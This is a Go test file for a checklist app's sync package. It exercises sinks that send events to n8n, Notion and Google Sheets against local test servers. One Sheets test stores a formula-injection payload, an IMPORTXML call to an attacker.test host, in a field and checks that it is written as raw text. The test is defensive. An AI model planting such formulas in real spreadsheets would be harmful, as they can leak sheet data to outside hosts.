package mirror

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"sync/atomic"
	"testing"
	"time"

	"checkquest/config"
	"checkquest/models"

	"github.com/cenkalti/backoff/v4"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"google.golang.org/api/option"
)

func fastRetry() backoff.BackOff {
	return &backoff.ZeroBackOff{}
}

func planEvent(t *testing.T, event models.EventType, plan models.ActionPlan) models.OutboxEvent {
	payload, err := json.Marshal(models.ActionPlanPayload{ActionPlan: plan, TemplateName: "Opening"})
	require.NoError(t, err)
	return models.OutboxEvent{ID: "evt-1", Event: event, Target: TargetNotion, SubjectID: plan.ID, Payload: payload}
}

func TestRegistry_Targets(t *testing.T) {
	r := NewRegistry(
		NewN8NSink(N8NConfig{URL: "http://n8n"}),
		NewNotionSink(NotionConfig{Token: "t", DatabaseID: "db"}),
	)

	assert.Equal(t, []string{"n8n", "notion"}, r.Names())
	assert.Equal(t, []string{"n8n"}, r.Targets(models.EventChecklistCompleted))
	assert.Equal(t, []string{"n8n", "notion"}, r.Targets(models.EventActionPlanCreated))

	_, ok := r.Get(TargetSheets)
	assert.False(t, ok)
}

func TestFromConfig_SkipsUnconfigured(t *testing.T) {
	r, err := FromConfig(context.Background(), &config.Config{N8NWebhookURL: "http://n8n"}, nil)
	require.NoError(t, err)
	assert.Equal(t, []string{TargetN8N}, r.Names())
}

func TestIsAuthError(t *testing.T) {
	assert.True(t, IsAuthError(&HTTPError{StatusCode: 401}))
	assert.True(t, IsAuthError(errors.Join(errors.New("wrapped"), &HTTPError{StatusCode: 403})))
	assert.False(t, IsAuthError(&HTTPError{StatusCode: 500}))
	assert.False(t, IsAuthError(errors.New("401 in text only")))
}

func TestNotionSink_CreateThenPatch(t *testing.T) {
	var requests []string
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		requests = append(requests, r.Method+" "+r.URL.Path)
		assert.Equal(t, "Bearer secret", r.Header.Get("Authorization"))
		assert.Equal(t, "2022-06-28", r.Header.Get("Notion-Version"))

		var body map[string]any
		require.NoError(t, json.NewDecoder(r.Body).Decode(&body))
		props := body["properties"].(map[string]any)
		assert.Contains(t, props, "Name")
		assert.Contains(t, props, "Status")

		if r.Method == http.MethodPost {
			assert.Equal(t, map[string]any{"database_id": "db-1"}, body["parent"])
			_, _ = io.WriteString(w, `{"id":"page-123"}`)
			return
		}
		_, _ = io.WriteString(w, `{"id":"page-123"}`)
	}))
	defer server.Close()

	linked := ""
	sink := NewNotionSink(NotionConfig{
		Token:      "secret",
		DatabaseID: "db-1",
		RateLimit:  1000,
		BaseURL:    server.URL,
		Retry:      fastRetry,
		Pages:      func(string) (string, error) { return linked, nil },
	})

	plan := models.ActionPlan{ID: "plan-1", Title: "Fix fridge", Status: models.ActionPlanOpen, Priority: models.PriorityCritical, DueDate: time.Now()}

	pageID, err := sink.Deliver(context.Background(), planEvent(t, models.EventActionPlanCreated, plan))
	require.NoError(t, err)
	assert.Equal(t, "page-123", pageID)

	linked = pageID
	plan.Status = models.ActionPlanDone
	pageID, err = sink.Deliver(context.Background(), planEvent(t, models.EventActionPlanUpdated, plan))
	require.NoError(t, err)
	assert.Equal(t, "page-123", pageID)

	assert.Equal(t, []string{"POST /pages", "PATCH /pages/page-123"}, requests)
}

func TestNotionSink_Retries(t *testing.T) {
	t.Run("Transient errors retried", func(t *testing.T) {
		var calls atomic.Int32
		server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if calls.Add(1) < 3 {
				w.WriteHeader(http.StatusTooManyRequests)
				return
			}
			_, _ = io.WriteString(w, `{"id":"page-9"}`)
		}))
		defer server.Close()

		sink := NewNotionSink(NotionConfig{Token: "t", DatabaseID: "db", RateLimit: 1000, BaseURL: server.URL, Retry: fastRetry})
		pageID, err := sink.Deliver(context.Background(), planEvent(t, models.EventActionPlanCreated, models.ActionPlan{ID: "p"}))
		require.NoError(t, err)
		assert.Equal(t, "page-9", pageID)
		assert.Equal(t, int32(3), calls.Load())
	})

	t.Run("Gives up after three attempts", func(t *testing.T) {
		var calls atomic.Int32
		server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			calls.Add(1)
			w.WriteHeader(http.StatusBadGateway)
		}))
		defer server.Close()

		sink := NewNotionSink(NotionConfig{Token: "t", DatabaseID: "db", RateLimit: 1000, BaseURL: server.URL, Retry: fastRetry})
		_, err := sink.Deliver(context.Background(), planEvent(t, models.EventActionPlanCreated, models.ActionPlan{ID: "p"}))
		var herr *HTTPError
		require.ErrorAs(t, err, &herr)
		assert.Equal(t, http.StatusBadGateway, herr.StatusCode)
		assert.Equal(t, int32(maxAttempts), calls.Load())
	})

	t.Run("Unauthorized is not retried", func(t *testing.T) {
		var calls atomic.Int32
		server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			calls.Add(1)
			w.WriteHeader(http.StatusUnauthorized)
			_, _ = io.WriteString(w, `{"code":"unauthorized"}`)
		}))
		defer server.Close()

		sink := NewNotionSink(NotionConfig{Token: "t", DatabaseID: "db", RateLimit: 1000, BaseURL: server.URL, Retry: fastRetry})
		_, err := sink.Deliver(context.Background(), planEvent(t, models.EventActionPlanCreated, models.ActionPlan{ID: "p"}))
		assert.True(t, IsAuthError(err))
		assert.Contains(t, err.Error(), "unauthorized")
		assert.Equal(t, int32(1), calls.Load())
	})
}

func TestN8NSink_Deliver(t *testing.T) {
	sentAt := time.Date(2025, 10, 17, 9, 0, 0, 0, time.UTC)
	var got webhookBody
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		assert.Equal(t, http.MethodPost, r.Method)
		assert.Equal(t, "shh", r.Header.Get("X-Webhook-Secret"))
		assert.Equal(t, "evt-7", r.Header.Get("X-Event-ID"))
		require.NoError(t, json.NewDecoder(r.Body).Decode(&got))
		w.WriteHeader(http.StatusNoContent)
	}))
	defer server.Close()

	sink := NewN8NSink(N8NConfig{URL: server.URL, Secret: "shh", Retry: fastRetry})
	sink.now = func() time.Time { return sentAt }

	_, err := sink.Deliver(context.Background(), models.OutboxEvent{
		ID:      "evt-7",
		Event:   models.EventChecklistCompleted,
		Payload: json.RawMessage(`{"entry_id":"e1","score":87.5}`),
	})
	require.NoError(t, err)

	assert.Equal(t, models.EventChecklistCompleted, got.Event)
	assert.JSONEq(t, `{"entry_id":"e1","score":87.5}`, string(got.Data))
	assert.True(t, sentAt.Equal(got.SentAt))
}

func TestSheetsSink_Deliver(t *testing.T) {
	var path, inputOption string
	var body struct {
		Values [][]any `json:"values"`
	}
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		path = r.URL.Path
		inputOption = r.URL.Query().Get("valueInputOption")
		require.NoError(t, json.NewDecoder(r.Body).Decode(&body))
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"updates":{"updatedRange":"Checklists!A7:K7"}}`)
	}))
	defer server.Close()

	sink, err := NewSheetsSink(context.Background(),
		SheetsConfig{SpreadsheetID: "sheet-1", Range: "Checklists!A1", Retry: fastRetry},
		option.WithEndpoint(server.URL+"/"), option.WithoutAuthentication())
	require.NoError(t, err)

	payload, _ := json.Marshal(models.ChecklistCompletedPayload{
		EntryID: "e1", TemplateName: "Opening", UserName: "Ana", Score: 87.5,
		Location:    `=IMPORTXML("http://attacker.test", "//a")`,
		CompletedAt: time.Date(2025, 10, 17, 9, 0, 0, 0, time.UTC),
	})
	updated, err := sink.Deliver(context.Background(), models.OutboxEvent{Event: models.EventChecklistCompleted, Payload: payload})
	require.NoError(t, err)

	assert.Equal(t, "Checklists!A7:K7", updated)
	assert.Equal(t, "/v4/spreadsheets/sheet-1/values/Checklists!A1:append", path)
	assert.Equal(t, "RAW", inputOption, "user text must never be evaluated as a formula")
	require.Len(t, body.Values, 1)
	assert.Equal(t, `=IMPORTXML("http://attacker.test", "//a")`, body.Values[0][3])
	assert.Equal(t, "2025-10-17T09:00:00Z", body.Values[0][0])
	assert.Equal(t, "Opening", body.Values[0][1])
	assert.Equal(t, 87.5, body.Values[0][4])
	assert.Equal(t, "e1", body.Values[0][10])
}

func TestSheetsSink_AuthError(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusForbidden)
		_, _ = io.WriteString(w, `{"error":{"code":403,"message":"The caller does not have permission"}}`)
	}))
	defer server.Close()

	sink, err := NewSheetsSink(context.Background(),
		SheetsConfig{SpreadsheetID: "sheet-1", Retry: fastRetry},
		option.WithEndpoint(server.URL+"/"), option.WithoutAuthentication())
	require.NoError(t, err)

	_, err = sink.Deliver(context.Background(), models.OutboxEvent{Payload: json.RawMessage(`{}`)})
	assert.True(t, IsAuthError(err))
}
